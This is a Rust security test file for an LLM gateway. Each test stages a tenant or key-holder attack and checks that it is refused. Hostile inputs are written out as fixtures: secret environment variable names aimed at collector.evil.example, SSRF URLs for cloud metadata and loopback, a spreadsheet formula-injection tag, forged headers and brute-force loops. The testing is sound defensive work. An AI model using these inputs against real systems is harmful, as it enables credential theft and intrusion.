//! The attacks of a SaaS tenant (and of a key holder, and of a page on another site), one test each, as
//! docs/security.md lists them. Each test performs the attack against a real gateway and shows that it fails.

use crate::helpers::{
    TEST_PASSWORD, TestOptions, chat_body, json_of, spawn_app, spawn_app_with, start_mock,
};
use mock_provider::MockConfig;
use reqwest::Method;
use serde_json::{Value, json};
use std::time::Duration;
use switchyard::config::TenancyMode;

fn saas() -> TestOptions {
    TestOptions {
        tweak: Box::new(|s| s.admin.mode = TenancyMode::Saas),
        ..TestOptions::default()
    }
}

/// A tenant in SaaS mode: a fresh sign-up, signed in as its owner.
async fn signed_up(app: &crate::helpers::TestApp, email: &str, org: &str) -> Value {
    let response = app
        .client
        .post(format!("{}/api/v1/auth/signup", app.address))
        .json(&json!({"email": email, "password": "a long enough password", "organisation": org}))
        .send()
        .await
        .unwrap();
    json_of(response, 201).await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tenant_cannot_read_the_gateways_environment_through_api_key_env() {
    // SaaS: any variable name is refused, the gateway's own secrets first of all.
    let app = spawn_app_with(saas()).await;
    let owner = signed_up(&app, "attacker@evil.example", "Evil").await;
    let token = owner["access_token"].as_str().unwrap();
    for variable in [
        "SWITCHYARD_ADMIN__JWT_SECRET",
        "SWITCHYARD_MASTER_KEY",
        "PATH",
        "OPENAI_API_KEY",
    ] {
        let refused = app
            .admin(
                token,
                Method::POST,
                "/providers",
                Some(json!({"name": "exfil", "kind": "openai", "base_url": "https://collector.evil.example/v1", "api_key_env": variable})),
            )
            .await;
        let body = json_of(refused, 400).await;
        assert_eq!(body["error"]["details"]["field"], "api_key_env", "{body}");
    }
    app.shutdown().await;

    // Self-hosted: only the operator's allowed names; and a row naming another variable is never read.
    let app = spawn_app().await;
    let (_, token) = app.token_for("owner@example.com", "owner").await;
    let refused = app
        .admin(
            &token,
            Method::POST,
            "/providers",
            Some(json!({"name": "exfil", "kind": "openai", "base_url": "http://127.0.0.1:9/v1", "api_key_env": "SWITCHYARD_ADMIN__JWT_SECRET"})),
        )
        .await;
    json_of(refused, 400).await;
    let mock = start_mock(MockConfig::default()).await;
    let now = chrono::Utc::now();
    let provider = app
        .services
        .repo
        .insert_provider(switchyard::store::entities::provider::Model {
            id: uuid::Uuid::now_v7(),
            tenant_id: app.services.default_tenant.id,
            name: "stored-before-the-fix".into(),
            kind: "openai".into(),
            base_url: mock.base_url(),
            // Set in every test process: were it read, the mock would receive it as the bearer token.
            api_key_env: Some("PATH".into()),
            api_key_ciphertext: None,
            api_key_hint: None,
            created_at: now,
            updated_at: now,
        })
        .await
        .unwrap();
    deploy(&app, provider.id.to_string(), "leaky-model").await;
    let answer = app
        .post_as(
            &app.key,
            "/v1/chat/completions",
            &json!({"model": "leaky-model", "messages": [{"role": "user", "content": "hi"}]}),
        )
        .await;
    assert_eq!(answer.status(), 200);
    let path = std::env::var("PATH").unwrap_or_default();
    for request in mock.received() {
        let auth = request.header("authorization").unwrap_or_default();
        assert!(!auth.contains(&path), "the gateway sent its PATH upstream");
    }
    mock.stop().await;
    app.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn provider_and_webhook_urls_cannot_reach_private_or_metadata_addresses() {
    // No private network allowed here (the default): the attacker aims at the metadata service and at the
    // gateway's own loopback.
    let app = spawn_app_with(TestOptions {
        tweak: Box::new(|s| {
            s.egress.allowed_networks = Vec::new();
            s.admin.mode = TenancyMode::Saas;
            s.egress.require_https = None;
        }),
        ..TestOptions::default()
    })
    .await;
    let owner = signed_up(&app, "attacker@evil.example", "Evil").await;
    let token = owner["access_token"].as_str().unwrap();
    for url in [
        "https://169.254.169.254/latest/meta-data",
        "https://127.0.0.1:6379/v1",
        "https://[::1]/v1",
        "https://10.0.0.8/v1",
        "https://100.64.1.1/v1",
        "http://api.example.com/v1", // https only in SaaS mode
    ] {
        let body = json_of(
            app.admin(
                token,
                Method::POST,
                "/providers",
                Some(json!({"name": "p", "kind": "openai", "base_url": url, "api_key": "k"})),
            )
            .await,
            400,
        )
        .await;
        assert_eq!(
            body["error"]["details"]["field"], "base_url",
            "{url}: {body}"
        );
        let body = json_of(
            app.admin(token, Method::POST, "/budgets", Some(json!({"name": "b", "scope_type": "tenant", "period": "monthly", "limit": "10", "webhook_url": url}))).await,
            400,
        )
        .await;
        assert_eq!(
            body["error"]["details"]["field"], "webhook_url",
            "{url}: {body}"
        );
    }
    // A host name that resolves to loopback passes the save-time check (it is a name) and is refused at connect
    // time, after resolution: DNS rebinding gets nowhere, and the caller learns no address.
    let mock = start_mock(MockConfig::default()).await;
    let provider = json_of(
        app.admin(token, Method::POST, "/providers", Some(json!({"name": "rebind", "kind": "openai", "base_url": format!("https://localhost:{}/v1", mock.port()), "api_key": "k"}))).await,
        201,
    )
    .await;
    json_of(
        app.admin(token, Method::POST, "/deployments", Some(json!({"provider_id": provider["id"], "model": "m", "upstream_model": "mock-gpt", "region": "eu", "input_price": "1", "output_price": "1"}))).await,
        201,
    )
    .await;
    let key = json_of(
        app.admin(
            token,
            Method::POST,
            "/keys",
            Some(json!({"name": "k", "team_id": default_team(&app, token).await})),
        )
        .await,
        201,
    )
    .await;
    let secret = key["secret"].as_str().unwrap().to_owned();
    let answer = answer_of(&app, &secret, "m").await;
    assert_eq!(answer.0, 502, "{}", answer.1);
    let message = answer.1["error"]["message"].as_str().unwrap_or_default();
    assert!(message.contains("upstream unreachable"), "{message}");
    assert!(
        !message.contains("127.0.0.1") && !message.contains("localhost:"),
        "{message}"
    );
    assert!(
        mock.received().is_empty(),
        "nothing reached the loopback mock"
    );
    mock.stop().await;
    app.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_provider_redirect_is_not_followed_and_the_credential_stays_home() {
    // The "provider" answers 307 to another host: the credential header must not travel there.
    let target = start_mock(MockConfig::default()).await;
    let redirector = redirect_server(format!("{}/chat/completions", target.base_url())).await;
    let app = spawn_app().await;
    let (_, token) = app.token_for("owner@example.com", "owner").await;
    let provider = json_of(
        app.admin(&token, Method::POST, "/providers", Some(json!({"name": "redir", "kind": "openai", "base_url": format!("http://127.0.0.1:{redirector}/v1"), "api_key": "sk-provider-secret"}))).await,
        201,
    )
    .await;
    deploy(
        &app,
        provider["id"].as_str().unwrap().to_owned(),
        "redir-model",
    )
    .await;
    let answer = app
        .post_as(
            &app.key,
            "/v1/chat/completions",
            &json!({"model": "redir-model", "messages": [{"role": "user", "content": "hi"}]}),
        )
        .await;
    assert_eq!(answer.status(), 502);
    assert!(target.received().is_empty(), "the redirect was followed");
    target.stop().await;
    app.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_invitation_never_sets_a_password_nor_attaches_an_existing_account() {
    let app = spawn_app_with(saas()).await;
    // The victim has an account of their own tenant.
    signed_up(&app, "victim@corp.example", "Corp").await;
    let attacker = signed_up(&app, "attacker@evil.example", "Evil").await;
    let token = attacker["access_token"].as_str().unwrap();

    // Inviting the victim's address answers exactly as for an unknown address: no oracle, no password.
    let known = json_of(
        app.admin(
            token,
            Method::POST,
            "/members",
            Some(json!({"email": "victim@corp.example", "role": "admin"})),
        )
        .await,
        201,
    )
    .await;
    let unknown = json_of(
        app.admin(
            token,
            Method::POST,
            "/members",
            Some(json!({"email": "nobody@corp.example", "role": "admin"})),
        )
        .await,
        201,
    )
    .await;
    let shape = |v: &Value| {
        let mut keys: Vec<String> = v.as_object().unwrap().keys().cloned().collect();
        keys.sort();
        keys
    };
    assert_eq!(shape(&known), shape(&unknown));
    assert!(known.get("one_time_password").is_none() && known.get("password").is_none());
    // The old way of setting a password is refused.
    json_of(app.admin(token, Method::POST, "/members", Some(json!({"email": "x@corp.example", "role": "admin", "password": "attacker-chosen-pw"}))).await, 400).await;
    // The victim is not a member until they accept.
    let members = json_of(app.admin(token, Method::GET, "/members", None).await, 200).await;
    assert_eq!(members["data"].as_array().unwrap().len(), 1);

    // The attacker holds the token but not the victim's password: accepting fails.
    let accept = |body: Value| {
        app.client
            .post(format!("{}/api/v1/invitations/accept", app.address))
            .json(&body)
            .send()
    };
    let wrong = accept(json!({"token": known["token"], "password": "attacker-chosen-pw"}))
        .await
        .unwrap();
    assert_eq!(wrong.status(), 401);
    let members = json_of(app.admin(token, Method::GET, "/members", None).await, 200).await;
    assert_eq!(
        members["data"].as_array().unwrap().len(),
        1,
        "nobody was attached"
    );
    // The victim, with their own password, joins; the token then works no more.
    let joined = json_of(
        accept(json!({"token": known["token"], "password": "a long enough password"}))
            .await
            .unwrap(),
        200,
    )
    .await;
    assert_eq!(joined["tenant"]["slug"], "evil");
    assert_eq!(joined["role"], "admin");
    json_of(
        accept(json!({"token": known["token"], "password": "a long enough password"}))
            .await
            .unwrap(),
        401,
    )
    .await;
    // A new address sets its own password; a revoked invitation works no more.
    let fresh = json_of(
        accept(json!({"token": unknown["token"], "password": "the invitee's own password"}))
            .await
            .unwrap(),
        200,
    )
    .await;
    assert_eq!(fresh["user"]["email"], "nobody@corp.example");
    let revoked = json_of(
        app.admin(
            token,
            Method::POST,
            "/members",
            Some(json!({"email": "late@corp.example", "role": "viewer"})),
        )
        .await,
        201,
    )
    .await;
    let status = app
        .admin(
            token,
            Method::DELETE,
            &format!("/invitations/{}", revoked["id"].as_str().unwrap()),
            None,
        )
        .await
        .status();
    assert_eq!(status, 204);
    json_of(
        accept(json!({"token": revoked["token"], "password": "the invitee's own password"}))
            .await
            .unwrap(),
        401,
    )
    .await;
    app.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_oversized_provider_answer_is_cut_with_a_502_and_billed() {
    let app = spawn_app_with(TestOptions {
        tweak: Box::new(|s| {
            s.upstream.max_response_bytes = 400;
            s.upstream.max_event_bytes = 400;
        }),
        ..TestOptions::default()
    })
    .await;
    // The mock echoes up to 200 characters of the prompt: its answer is over 400 bytes whole, and its stream
    // (20 chunks, `x-mock-chunks` is forwarded to it) passes 400 bytes after a few events.
    let long = |stream: bool| {
        json!({"model": crate::helpers::MODEL, "stream": stream,
               "messages": [{"role": "user", "content": "x".repeat(200)}]})
    };
    let whole = app
        .client
        .post(format!("{}/v1/chat/completions", app.address))
        .bearer_auth(&app.key)
        .json(&long(false))
        .send()
        .await
        .unwrap();
    assert_eq!(whole.status(), 502);
    let body: Value = whole.json().await.unwrap();
    assert_eq!(
        body["error"]["code"], "upstream_response_too_large",
        "{body}"
    );
    let streamed = app
        .client
        .post(format!("{}/v1/chat/completions", app.address))
        .bearer_auth(&app.key)
        .header("x-mock-chunks", "20")
        .json(&long(true))
        .send()
        .await
        .unwrap();
    let text = streamed.text().await.unwrap();
    assert!(text.contains("upstream_response_too_large"), "{text}");
    assert!(
        text.len() < 4096,
        "the stream stopped near the cap ({} bytes)",
        text.len()
    );
    app.wait_for_usage(2, Duration::from_secs(10)).await;
    let rows = app.usage_rows().await;
    assert!(
        rows.iter().all(|r| r.status_code == 502),
        "{:?}",
        rows.iter().map(|r| r.status_code).collect::<Vec<_>>()
    );
    assert!(
        rows.iter()
            .all(|r| r.input_tokens > 0 && r.output_tokens > 0),
        "what was consumed is billed: {:?}",
        rows.iter()
            .map(|r| (r.input_tokens, r.output_tokens))
            .collect::<Vec<_>>()
    );
    app.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sign_out_removal_and_demotion_end_an_access_token_at_once() {
    let app = spawn_app().await;
    let (_, owner) = app.token_for("owner@example.com", "owner").await;
    let (admin_id, admin) = app.token_for("admin@example.com", "admin").await;
    // Sign-out: the same access token is refused on the next request.
    let (_, leaving) = app.token_for("leaving@example.com", "viewer").await;
    assert_eq!(
        app.admin(&leaving, Method::GET, "/teams", None)
            .await
            .status(),
        200
    );
    assert_eq!(
        app.admin(&leaving, Method::POST, "/auth/logout", None)
            .await
            .status(),
        204
    );
    assert_eq!(
        app.admin(&leaving, Method::GET, "/teams", None)
            .await
            .status(),
        401
    );
    // Demotion: the admin's token no longer manages teams.
    assert_eq!(
        app.admin(
            &admin,
            Method::POST,
            "/teams",
            Some(json!({"slug": "alpha", "name": "A"}))
        )
        .await
        .status(),
        201
    );
    json_of(
        app.admin(
            &owner,
            Method::PATCH,
            &format!("/members/{admin_id}"),
            Some(json!({"role": "viewer"})),
        )
        .await,
        200,
    )
    .await;
    assert_eq!(
        app.admin(
            &admin,
            Method::POST,
            "/teams",
            Some(json!({"slug": "bravo", "name": "B"}))
        )
        .await
        .status(),
        403
    );
    // Removal: the token is refused outright.
    json_of(
        app.admin(
            &owner,
            Method::DELETE,
            &format!("/members/{admin_id}"),
            None,
        )
        .await,
        200,
    )
    .await;
    assert_eq!(
        app.admin(&admin, Method::GET, "/teams", None)
            .await
            .status(),
        401
    );
    app.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_removed_member_s_keys_stop_working_and_the_answer_says_so() {
    let app = spawn_app().await;
    let DeveloperKey {
        owner, dev_id, key, ..
    } = developer_with_a_key(&app).await;
    let secret = key["secret"].as_str().unwrap().to_owned();
    assert_eq!(
        app.post_as(&secret, "/v1/chat/completions", &chat_body(false))
            .await
            .status(),
        200
    );

    let removal = json_of(
        app.admin(&owner, Method::DELETE, &format!("/members/{dev_id}"), None)
            .await,
        200,
    )
    .await;
    assert_eq!(removal["revoked_keys"][0]["id"], key["id"], "{removal}");
    assert_eq!(
        app.post_as(&secret, "/v1/chat/completions", &chat_body(false))
            .await
            .status(),
        401
    );
    let audit = json_of(
        app.admin(&owner, Method::GET, "/audit?action=api_key.revoke", None)
            .await,
        200,
    )
    .await;
    assert_eq!(audit["data"].as_array().map(Vec::len), Some(1), "{audit}");
    app.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn moving_a_provider_to_another_host_needs_its_credential_again() {
    let app = spawn_app().await;
    let (_, token) = app.token_for("owner@example.com", "owner").await;
    let provider = json_of(
        app.admin(&token, Method::POST, "/providers", Some(json!({"name": "p", "kind": "openai", "base_url": "https://api.openai.com/v1", "api_key": "sk-the-real-openai-key"}))).await,
        201,
    )
    .await;
    let path = format!("/providers/{}", provider["id"].as_str().unwrap());
    let body = json_of(
        app.admin(
            &token,
            Method::PATCH,
            &path,
            Some(json!({"base_url": "https://collector.evil.example/v1"})),
        )
        .await,
        400,
    )
    .await;
    assert_eq!(body["error"]["details"]["field"], "api_key");
    // Same host, another path: allowed; another host with the credential given again: allowed.
    json_of(
        app.admin(
            &token,
            Method::PATCH,
            &path,
            Some(json!({"base_url": "https://api.openai.com/v2"})),
        )
        .await,
        200,
    )
    .await;
    json_of(
        app.admin(
            &token,
            Method::PATCH,
            &path,
            Some(json!({"base_url": "https://other.example/v1", "api_key": "sk-other"})),
        )
        .await,
        200,
    )
    .await;
    app.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_developer_cannot_lift_the_restrictions_an_admin_put_on_their_key() {
    let app = spawn_app().await;
    let DeveloperKey {
        owner, dev, key, ..
    } = developer_with_a_key(&app).await;
    let path = format!("/keys/{}", key["id"].as_str().unwrap());
    let expiry = (chrono::Utc::now() + chrono::Duration::days(1)).to_rfc3339();
    json_of(
        app.admin(
            &owner,
            Method::PATCH,
            &path,
            Some(
                json!({"allowed_models": ["gpt-test"], "max_concurrency": 2, "expires_at": expiry}),
            ),
        )
        .await,
        200,
    )
    .await;
    for widening in [
        json!({"allowed_models": null}),
        json!({"allowed_models": ["gpt-test", "other-model"]}),
        json!({"max_concurrency": null}),
        json!({"max_concurrency": 50}),
        json!({"expires_at": null}),
        json!({"expires_at": (chrono::Utc::now() + chrono::Duration::days(365)).to_rfc3339()}),
    ] {
        let status = app
            .admin(&dev, Method::PATCH, &path, Some(widening.clone()))
            .await
            .status();
        assert_eq!(status, 400, "{widening}");
    }
    // Narrowing is still theirs to do.
    json_of(
        app.admin(
            &dev,
            Method::PATCH,
            &path,
            Some(json!({"max_concurrency": 1})),
        )
        .await,
        200,
    )
    .await;
    // Rotation with a long grace does not outlive the expiry.
    let rotated = json_of(
        app.admin(
            &dev,
            Method::POST,
            &format!("{path}/rotate"),
            Some(json!({"grace_seconds": 604_800})),
        )
        .await,
        201,
    )
    .await;
    let old = json_of(app.admin(&owner, Method::GET, &path, None).await, 200).await;
    let old_expiry: chrono::DateTime<chrono::Utc> =
        old["expires_at"].as_str().unwrap().parse().unwrap();
    assert!(
        old_expiry <= chrono::Utc::now() + chrono::Duration::days(1),
        "{old}"
    );
    assert!(rotated["secret"].is_string());
    app.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn chargeback_csv_cells_cannot_run_as_spreadsheet_formulas() {
    let app = spawn_app().await;
    let (_, owner) = app.token_for("owner@example.com", "owner").await;
    // A key holder picks the tag value that lands in finance's spreadsheet.
    let answer = app
        .client
        .post(format!("{}/v1/chat/completions", app.address))
        .bearer_auth(&app.key)
        .header(
            "x-switchyard-tags",
            "project==HYPERLINK(\"https://evil.example\")",
        )
        .json(&chat_body(false))
        .send()
        .await
        .unwrap();
    assert_eq!(answer.status(), 200);
    app.wait_for_usage(1, Duration::from_secs(10)).await;
    let day = chrono::Utc::now().date_naive();
    let path = format!(
        "/reports/chargeback?from={day}&to={}&group_by=tag:project&format=csv",
        day + chrono::Duration::days(1)
    );
    // The roll-up is written in the same transaction as the event: once the event is there, so is the row.
    let response = app
        .client
        .get(format!("{}/api/v1{path}", app.address))
        .bearer_auth(&owner)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    let csv = response.text().await.unwrap();
    assert!(csv.contains("'=HYPERLINK"), "{csv}");
    assert!(
        !csv.contains(",=HYPERLINK") && !csv.contains(",\"=HYPERLINK"),
        "{csv}"
    );
    app.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn parallel_wrong_passwords_cannot_outrun_the_sign_in_limit() {
    let app = spawn_app_with(TestOptions {
        tweak: Box::new(|s| s.admin.login_attempts = 3),
        ..TestOptions::default()
    })
    .await;
    app.create_user("target@example.com", "viewer", None).await;
    let attempts = (0..12).map(|_| {
        app.client
            .post(format!("{}/api/v1/auth/login", app.address))
            .json(&json!({"email": "target@example.com", "password": "wrong guess number one"}))
            .send()
    });
    let statuses: Vec<u16> = futures_util::future::join_all(attempts)
        .await
        .into_iter()
        .map(|r| r.unwrap().status().as_u16())
        .collect();
    let checked = statuses.iter().filter(|s| **s == 401).count();
    assert!(
        checked <= 3,
        "only 3 guesses may be checked, {checked} were: {statuses:?}"
    );
    // The right password is now refused too, until the window ends.
    let right = app
        .client
        .post(format!("{}/api/v1/auth/login", app.address))
        .json(&json!({"email": "target@example.com", "password": TEST_PASSWORD}))
        .send()
        .await
        .unwrap();
    assert_eq!(right.status(), 429);
    // A forged X-Forwarded-For from an untrusted peer does not buy a fresh allowance.
    let forged = app
        .client
        .post(format!("{}/api/v1/auth/login", app.address))
        .header("x-forwarded-for", "203.0.113.77")
        .json(&json!({"email": "other@example.com", "password": "wrong guess number one"}))
        .send()
        .await
        .unwrap();
    assert_eq!(forged.status(), 429, "the per-address limit still applies");
    app.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_cookie_session_cannot_be_used_from_another_site() {
    let app = spawn_app().await;
    app.create_user("owner2@example.com", "owner", None).await;
    let login = app
        .client
        .post(format!("{}/api/v1/auth/login", app.address))
        .json(&json!({"email": "owner2@example.com", "password": TEST_PASSWORD}))
        .send()
        .await
        .unwrap();
    let cookie = login
        .headers()
        .get_all("set-cookie")
        .iter()
        .filter_map(|v| v.to_str().ok())
        .find(|c| c.starts_with("sy_access="))
        .and_then(|c| c.split(';').next())
        .unwrap()
        .to_owned();
    let post = |site: &'static str| {
        app.client
            .post(format!("{}/api/v1/teams", app.address))
            .header("cookie", cookie.clone())
            .header("sec-fetch-site", site)
            .json(&json!({"slug": format!("t-{site}"), "name": "T"}))
            .send()
    };
    assert_eq!(post("cross-site").await.unwrap().status(), 403);
    assert_eq!(post("same-site").await.unwrap().status(), 403);
    assert_eq!(post("same-origin").await.unwrap().status(), 201);
    let evil_origin = app
        .client
        .post(format!("{}/api/v1/teams", app.address))
        .header("cookie", cookie.clone())
        .header("origin", "https://evil.example")
        .json(&json!({"slug": "t-origin", "name": "T"}))
        .send()
        .await
        .unwrap();
    assert_eq!(evil_origin.status(), 403);
    app.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn readiness_and_guessed_keys_reveal_and_cost_nothing() {
    let app = spawn_app().await;
    // The real key is in use (cached) before the guessing starts.
    assert_eq!(
        app.post_as(&app.key, "/v1/chat/completions", &chat_body(false))
            .await
            .status(),
        200
    );
    // Guessed keys: after the per-address allowance, unknown keys are refused without a lookup.
    let mut last = 0;
    for _ in 0..70 {
        let guess = switchyard::keys::generate().secret;
        last = app
            .post_as(&guess, "/v1/chat/completions", &chat_body(false))
            .await
            .status()
            .as_u16();
    }
    assert_eq!(last, 429);
    // A key in use still works from the same address.
    assert_eq!(
        app.post_as(&app.key, "/v1/chat/completions", &chat_body(false))
            .await
            .status(),
        200
    );
    // With the database gone, readiness says so without the driver's message (host, database and user names).
    app.db.drop_now().await;
    let response = app
        .client
        .get(format!("{}/readyz", app.address))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 503);
    let text = response.text().await.unwrap();
    assert!(text.contains("\"database\":\"unavailable\""), "{text}");
    assert!(
        !text.contains("sy_test") && !text.contains("postgres"),
        "{text}"
    );
    app.shutdown().await;
}

/// A deployment of `model` on `provider` (through the admin API), in the catalog before returning.
async fn deploy(app: &crate::helpers::TestApp, provider: String, model: &str) {
    let (_, token) = app
        .token_for(&format!("deployer-{model}@example.com"), "owner")
        .await;
    json_of(
        app.admin(&token, Method::POST, "/deployments", Some(json!({"model": model, "provider_id": provider, "upstream_model": "mock-gpt", "region": "eu", "input_price": "1", "output_price": "1"}))).await,
        201,
    )
    .await;
    app.services.catalog.reload().await.unwrap();
}

/// An owner's and a developer's tokens, and a key the developer made for themselves in the default team.
struct DeveloperKey {
    owner: String,
    dev_id: uuid::Uuid,
    dev: String,
    key: Value,
}

async fn developer_with_a_key(app: &crate::helpers::TestApp) -> DeveloperKey {
    let (_, owner) = app.token_for("owner@example.com", "owner").await;
    let (dev_id, dev) = app.token_for("dev@example.com", "developer").await;
    let team = default_team(app, &owner).await;
    join_team(app, &owner, &team, dev_id).await;
    let key = json_of(
        app.admin(
            &dev,
            Method::POST,
            "/keys",
            Some(json!({"name": "mine", "team_id": team})),
        )
        .await,
        201,
    )
    .await;
    DeveloperKey {
        owner,
        dev_id,
        dev,
        key,
    }
}

/// Puts a member in a team.
async fn join_team(app: &crate::helpers::TestApp, token: &str, team: &str, user: uuid::Uuid) {
    let status = app
        .admin(
            token,
            Method::PUT,
            &format!("/teams/{team}/members/{user}"),
            None,
        )
        .await
        .status()
        .as_u16();
    assert!(status == 201 || status == 204 || status == 200, "{status}");
}

/// The default team's id.
async fn default_team(app: &crate::helpers::TestApp, token: &str) -> String {
    let teams = json_of(app.admin(token, Method::GET, "/teams", None).await, 200).await;
    teams["data"][0]["id"].as_str().unwrap().to_owned()
}

/// Calls `model` once the catalog holds its new deployment (reloaded here rather than waited for).
async fn answer_of(app: &crate::helpers::TestApp, key: &str, model: &str) -> (u16, Value) {
    app.services.catalog.reload().await.unwrap();
    let body = json!({"model": model, "messages": [{"role": "user", "content": "hi"}]});
    let response = app.post_as(key, "/v1/chat/completions", &body).await;
    (
        response.status().as_u16(),
        response.json().await.unwrap_or(Value::Null),
    )
}

/// A server that answers every request with a 307 to `location`; returns its port.
async fn redirect_server(location: String) -> u16 {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            let location = location.clone();
            tokio::spawn(async move {
                let mut buffer = [0u8; 8192];
                let _ = socket.read(&mut buffer).await;
                let answer = format!(
                    "HTTP/1.1 307 Temporary Redirect\r\nlocation: {location}\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
                );
                let _ = socket.write_all(answer.as_bytes()).await;
            });
        }
    });
    port
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_generated_jwt_secret_is_private_from_its_first_byte() {
    let app = spawn_app_with(TestOptions {
        tweak: Box::new(|s| s.admin.jwt_secret = None),
        ..TestOptions::default()
    })
    .await;
    let path = app.settings.data_dir.join("jwt.secret");
    let metadata = std::fs::metadata(&path).unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        assert_eq!(metadata.permissions().mode() & 0o777, 0o600);
    }
    assert!(metadata.len() >= 32);
    app.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_viewer_sees_a_webhook_s_origin_and_not_its_token() {
    let app = spawn_app().await;
    let (_, owner) = app.token_for("owner@example.com", "owner").await;
    let (_, viewer) = app.token_for("viewer@example.com", "viewer").await;
    let budget = json_of(
        app.admin(&owner, Method::POST, "/budgets", Some(json!({"name": "b", "scope_type": "tenant", "period": "monthly", "limit": "10", "webhook_url": "https://hooks.example.com/services/T000/B000/secret-token"}))).await,
        201,
    )
    .await;
    let path = format!("/budgets/{}", budget["id"].as_str().unwrap());
    let seen = json_of(app.admin(&viewer, Method::GET, &path, None).await, 200).await;
    assert_eq!(seen["webhook_url"], "https://hooks.example.com/…");
    let listed = json_of(app.admin(&viewer, Method::GET, "/budgets", None).await, 200).await;
    assert!(!listed.to_string().contains("secret-token"), "{listed}");
    let managed = json_of(app.admin(&owner, Method::GET, &path, None).await, 200).await;
    assert!(
        managed["webhook_url"]
            .as_str()
            .unwrap()
            .ends_with("secret-token")
    );
    app.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_stolen_session_cannot_guess_the_current_password_without_limit() {
    let app = spawn_app_with(TestOptions {
        tweak: Box::new(|s| s.admin.login_attempts = 3),
        ..TestOptions::default()
    })
    .await;
    let (_, token) = app.token_for("owner@example.com", "owner").await;
    let mut statuses = Vec::new();
    for _ in 0..5 {
        let status = app
            .admin(&token, Method::POST, "/auth/password", Some(json!({"current_password": "a wrong guess", "new_password": "a brand new password"})))
            .await
            .status()
            .as_u16();
        statuses.push(status);
    }
    assert_eq!(statuses, vec![400, 400, 400, 429, 429]);
    app.shutdown().await;
}
